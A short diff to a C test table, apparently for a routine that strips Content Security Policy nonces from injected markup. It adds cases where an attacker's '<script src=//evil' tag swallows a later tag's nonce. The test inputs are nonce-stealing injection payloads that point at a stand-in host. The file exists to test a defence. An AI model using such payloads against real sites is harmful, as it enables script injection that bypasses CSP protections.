@@ -62,6 +62,10 @@ static const case_t  pages[] = {
     /* a tag that swallowed another */
     { "<script src=//evil x=<script nonce=" S ">",
       "<script src=//evil x=<script nonce=" X ">" },
+    { "<script src=//evil <link nonce=" S ">",
+      "<script src=//evil <link nonce=" X ">" },
+    { "<script src=//evil x='</p><link rel=' nonce=" S ">",
+      "<script src=//evil x='</p><link rel=' nonce=" X ">" },
     { "<script nonce=" S " x='<script'>", "<script nonce=" X " x='<script'>" },
     { "<img src='//evil/?<script nonce=\"" S "\">'>",
       "<img src='//evil/?<script nonce=\"" X "\">'>" },
